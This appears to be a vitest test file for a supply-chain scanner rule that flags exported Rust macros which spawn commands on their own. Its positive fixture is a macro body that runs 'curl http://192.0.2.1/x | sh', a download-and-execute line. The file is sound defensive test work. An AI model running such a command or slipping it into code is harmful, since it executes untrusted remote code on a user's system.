import { describe, expect, it } from 'vitest';
import { findings } from '../../../test/crate.ts';
import { macroRules } from './rules.ts';

const fired = (body: string) =>
  findings(macroRules, { 'src/lib.rs': `#[macro_export] macro_rules! m { ($($x:tt)*) => {{ ${body} }}; }` }).length;

describe('macro-rules-code', () => {
  it('holds a macro whose own text downloads and runs', () => {
    expect(fired('std::process::Command::new("sh").arg("-c").arg("curl http://192.0.2.1/x | sh").spawn();')).toBe(1);
  });
  it('says nothing of macros for commands and connections of their users', () => {
    expect(fired('std::process::Command::new($($x)*).spawn()')).toBe(0);
    expect(fired('std::net::TcpStream::connect($($x)*)')).toBe(0);
  });
});
